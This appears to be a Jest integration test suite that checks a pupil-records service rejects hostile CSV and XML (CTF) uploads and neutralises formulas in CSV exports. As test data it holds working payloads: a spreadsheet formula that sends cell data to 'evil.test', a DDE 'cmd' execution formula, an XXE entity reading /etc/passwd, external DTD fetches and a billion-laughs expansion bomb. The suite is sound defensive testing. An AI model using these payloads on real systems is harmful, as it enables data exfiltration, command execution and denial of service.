import { PupilImportView } from '@pt/contracts';
import { birthDateFor, newPupil, School, waitForImport, World } from '@pt/testing';
import { readFileSync } from 'node:fs';
import { createServer, Server } from 'node:http';
import { AddressInfo } from 'node:net';
import { makeUpn } from '../apps/pupil-records/src/ctf/ctf-generator';

/**
 * The file attack cases (issue 15, the suite's "files"): what an attacker can put in a CTF
 * or a CSV upload, and what comes back out in a file a spreadsheet opens. Every upload is
 * either refused at the door (413, 415 problem+json) or becomes a job that reports what it
 * refused, by row and field and never by value; nothing outside the file is ever fetched.
 */
describe('attack: files in (CTF, CSV) and out (CSV exports)', () => {
  let world: World;
  let school: School;
  let head: string;
  let serial = 0;

  /** A DTD server: any request it gets means the parser reached outside the file. */
  let dtdServer: Server;
  let dtdRequests = 0;
  let dtdUrl: string;

  const FORMULAS = {
    legalSurname: '=HYPERLINK("http://evil.test/?d="&A1,"Click")',
    legalForename: '@SUM(1+1)',
    middleNames: "=cmd|' /C calc'!A0",
  };

  const upload = (body: string | Buffer | AsyncIterable<Uint8Array>, contentType: string, query = 'format=ctf') =>
    world.call<PupilImportView>(head, 'POST', `/api/v1/pupil-imports?${query}`, body, { contentType });

  const importFile = async (body: string, contentType = 'application/xml', query = 'format=ctf') => {
    const reply = await upload(body, contentType, query);
    expect(reply.status).toBe(202);
    return waitForImport(world, head, reply.body.id, 20_000);
  };

  const upn = () => makeUpn(school.laCode, school.establishmentNumber, 40, ++serial);

  const pupilXml = (fields: { upn: string; surname: string; forename: string; middle?: string }) =>
    `<Pupil><UPN>${fields.upn}</UPN><Surname>${fields.surname}</Surname><Forename>${fields.forename}</Forename>` +
    (fields.middle !== undefined ? `<MiddleNames>${fields.middle}</MiddleNames>` : '') +
    `<DOB>${birthDateFor('5')}</DOB><Sex>F</Sex><NCyearActual>5</NCyearActual></Pupil>`;

  /** A CTF addressed to the school, with an optional DOCTYPE before the root. */
  const ctf = (pupils: string, doctype = '') =>
    `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}<CTfile><Header><CTFversion>26.0</CTFversion>` +
    `<DestSchool><LEA>${school.laCode}</LEA><Estab>${school.establishmentNumber}</Estab></DestSchool></Header>` +
    `<CTFpupilData>${pupils}</CTFpupilData></CTfile>`;

  const pupilCount = async () =>
    (await world.sql('pupil-records', 'select count(*)::int as n from pupil where tenant_id = $1', [school.id]))[0]
      .n as number;

  /** Peak resident memory of a process in MB (VmHWM). */
  const peakMb = (name: 'gateway' | 'pupil-records') => {
    const status = readFileSync(`/proc/${world.stack.pidOf(name)}/status`, 'utf8');
    return Number(/VmHWM:\s+(\d+) kB/.exec(status)![1]) / 1024;
  };

  const expectNothingLeaked = (job: PupilImportView, ...values: string[]) => {
    const text = JSON.stringify(job);
    for (const value of values) expect(text).not.toContain(value);
  };

  beforeAll(async () => {
    dtdServer = createServer((_request, response) => {
      dtdRequests++;
      response.end('<!ENTITY leak "fetched">');
    });
    await new Promise<void>((resolve) => dtdServer.listen(0, '127.0.0.1', resolve));
    dtdUrl = `http://127.0.0.1:${(dtdServer.address() as AddressInfo).port}`;
    world = await World.start({ label: 'attackfiles', processes: ['gateway', 'identity', 'pupil-records', 'audit'] });
    school = await world.school({ laCode: '993', establishmentNumber: '7301', signed: true });
    head = (await world.staff(school)).token;
  }, 120_000);

  afterAll(async () => {
    await world?.stop();
    await new Promise((resolve) => dtdServer?.close(resolve));
  });

  describe('a CSV carrying spreadsheet formulas', () => {
    it('refuses each such row naming the field and the rule, never the value; the clean row lands', async () => {
      const [clean, surname, forename, middle] = [upn(), upn(), upn(), upn()];
      const dob = birthDateFor('5');
      const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;
      const csv = [
        'UPN,Surname,Forename,Middle,DOB,Year',
        `${clean},Khan,Amira,,${dob},5`,
        `${surname},${quoted(FORMULAS.legalSurname)},Amira,,${dob},5`,
        `${forename},Khan,${quoted(FORMULAS.legalForename)},,${dob},5`,
        `${middle},Khan,Amira,${quoted(FORMULAS.middleNames)},${dob},5`,
      ].join('\r\n');
      const mapping = {
        UPN: 'upn',
        Surname: 'legalSurname',
        Forename: 'legalForename',
        Middle: 'middleNames',
        DOB: 'dateOfBirth',
        Year: 'yearGroup',
      };
      const job = await importFile(
        csv,
        'text/csv',
        `format=csv&mapping=${encodeURIComponent(JSON.stringify(mapping))}`,
      );
      expect(job.status).toBe('completed');
      expect(job.report).toMatchObject({ created: 1, rejected: 3 });
      expect(job.report.rejections).toEqual([
        { upn: surname, position: 2, field: 'legalSurname', reason: 'must be a name of 1 to 100 letters' },
        { upn: forename, position: 3, field: 'legalForename', reason: 'must be a name of 1 to 100 letters' },
        { upn: middle, position: 4, field: 'middleNames', reason: 'must be a name of 1 to 100 letters, or null' },
      ]);
      expectNothingLeaked(job, 'HYPERLINK', 'SUM(', 'cmd|');
      const stored = await world.sql('pupil-records', 'select upn from pupil where tenant_id = $1', [school.id]);
      expect(stored.map((row) => row.upn)).toEqual([clean]);
    });

    it('is refused by POST /pupils with the same field and words: one rule for every way in', async () => {
      for (const [field, value] of Object.entries(FORMULAS)) {
        const reply = await world.call(head, 'POST', '/api/v1/pupils', newPupil({ [field]: value }));
        expect(reply.status).toBe(400);
        expect(reply.body.errors).toEqual([
          {
            field,
            message:
              field === 'middleNames'
                ? 'must be a name of 1 to 100 letters, or null'
                : 'must be a name of 1 to 100 letters',
          },
        ]);
      }
    });
  });

  it('a CTF carrying spreadsheet formulas in names is refused row by row, naming the field', async () => {
    const [clean, bad] = [upn(), upn()];
    const job = await importFile(
      ctf(
        pupilXml({ upn: clean, surname: 'Evans', forename: 'Ré' }) +
          pupilXml({ upn: bad, surname: '=1+1', forename: 'Leo', middle: '@SUM(1+1)' }),
      ),
    );
    expect(job.status).toBe('completed');
    expect(job.report.rejections).toEqual([
      { upn: bad, position: 2, field: 'legalSurname', reason: 'must be a name of 1 to 100 letters' },
    ]);
    const rows = await world.sql('pupil-records', 'select upn from pupil where tenant_id = $1 and upn = any($2)', [
      school.id,
      [clean, bad],
    ]);
    expect(rows.map((row) => row.upn)).toEqual([clean]);
  });

  describe('XML attacks on the CTF parser', () => {
    it('XXE: an external entity naming /etc/passwd is never read; the job fails as malformed and stores nothing', async () => {
      const before = await pupilCount();
      const job = await importFile(
        ctf(
          pupilXml({ upn: upn(), surname: '&xxe;', forename: 'Amira' }),
          '<!DOCTYPE CTfile [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        ),
      );
      expect(job.status).toBe('failed');
      expect(job.error).toMatchObject({ code: 'malformed_ctf' });
      expectNothingLeaked(job, 'root:', '/bin/');
      expect(await pupilCount()).toBe(before);
    });

    it('an external DTD and parameter entities are never fetched', async () => {
      const requests = dtdRequests;
      const external = await importFile(
        ctf(
          pupilXml({ upn: upn(), surname: '&leak;', forename: 'Amira' }),
          `<!DOCTYPE CTfile SYSTEM "${dtdUrl}/evil.dtd">\n`,
        ),
      );
      const parameter = await importFile(
        ctf(
          pupilXml({ upn: upn(), surname: 'Khan', forename: 'Amira' }),
          `<!DOCTYPE CTfile [<!ENTITY % remote SYSTEM "${dtdUrl}/p.dtd"> %remote;]>\n`,
        ),
      );
      expect(external.status).toBe('failed');
      expect(external.error).toMatchObject({ code: 'malformed_ctf' });
      expect(['completed', 'failed']).toContain(parameter.status);
      expectNothingLeaked(external, 'fetched');
      expectNothingLeaked(parameter, 'fetched');
      expect(dtdRequests).toBe(requests);
    });

    it('entity expansion (billion laughs) is refused at once, without the memory it asks for', async () => {
      const entities = ['<!ENTITY lol0 "lollollollollollollollollollol">'];
      for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
      const peak = peakMb('pupil-records');
      const started = Date.now();
      const job = await importFile(
        ctf(
          pupilXml({ upn: upn(), surname: '&lol9;', forename: 'Amira' }),
          `<!DOCTYPE CTfile [${entities.join('')}]>\n`,
        ),
      );
      expect(job.status).toBe('failed');
      expect(job.error).toMatchObject({ code: 'malformed_ctf' });
      expect(Date.now() - started).toBeLessThan(5_000);
      // 10^9 "lol"s would be 3 GB; a few MB of growth is the process's ordinary work.
      expect(peakMb('pupil-records') - peak).toBeLessThan(50);
    });

    it('malformed XML fails the job with its line and column, never a 500, and stores nothing', async () => {
      const before = await pupilCount();
      const job = await importFile(ctf(`<Pupil><UPN>${upn()}</UPN><Surname>Khan</Pupil>`));
      expect(job.status).toBe('failed');
      expect(job.error).toMatchObject({ code: 'malformed_ctf', line: expect.any(Number), column: expect.any(Number) });
      expect(await pupilCount()).toBe(before);
    });
  });

  it('a file over the size limit is refused 413 problem+json while it streams, in bounded gateway memory', async () => {
    const chunk = Buffer.alloc(1024 * 1024, 0x20);
    async function* tooBig() {
      yield Buffer.from(ctf('').replace('</CTfile>', ''));
      for (let i = 0; i < 101; i++) yield chunk;
    }
    const peak = peakMb('gateway');
    const reply = await upload(tooBig(), 'application/xml');
    expect(reply.status).toBe(413);
    expect(reply.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(reply.body).toMatchObject({ code: 'pupil_import.file_too_large', status: 413 });
    // The 101 MB went through in chunks: the gateway never held the file.
    expect(peakMb('gateway') - peak).toBeLessThan(64);
  }, 60_000);

  it.each([
    ['application/json', 'format=ctf', JSON.stringify({ CTfile: {} })],
    ['text/plain', 'format=ctf', '<CTfile/>'],
    ['application/xml', 'format=csv&mapping=%7B%22UPN%22%3A%22upn%22%7D', 'UPN\nA1'],
  ])('a %s upload for %s is refused 415 problem+json before anything is stored', async (type, query, body) => {
    const reply = await upload(body, type, query);
    expect(reply.status).toBe(415);
    expect(reply.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(reply.body).toMatchObject({ code: 'body.unsupported_media_type', status: 415 });
  });

  it("a CSV export neutralises a formula an attacker planted (a request id of '-A1-A1-A1')", async () => {
    const planted = '-A1-A1-A1';
    const created = await world.call(head, 'POST', '/api/v1/pupils', newPupil(), {
      headers: { 'x-request-id': planted },
    });
    expect(created.status).toBe(201);
    const path = '/api/v1/audit-entries/export?action=pupil-records.pupil.created';
    await world.until(async () => {
      const json = await world.call(head, 'GET', `${path}&format=json`);
      return json.body.items?.some((entry: { requestId: string }) => entry.requestId === planted);
    }, 20_000);
    const csv = await world.call(head, 'GET', `${path}&format=csv`);
    expect(csv.status).toBe(200);
    const cells = csv.text
      .trimEnd()
      .split('\r\n')
      .flatMap((line) => line.split(','));
    expect(cells).toContain(`'${planted}`);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
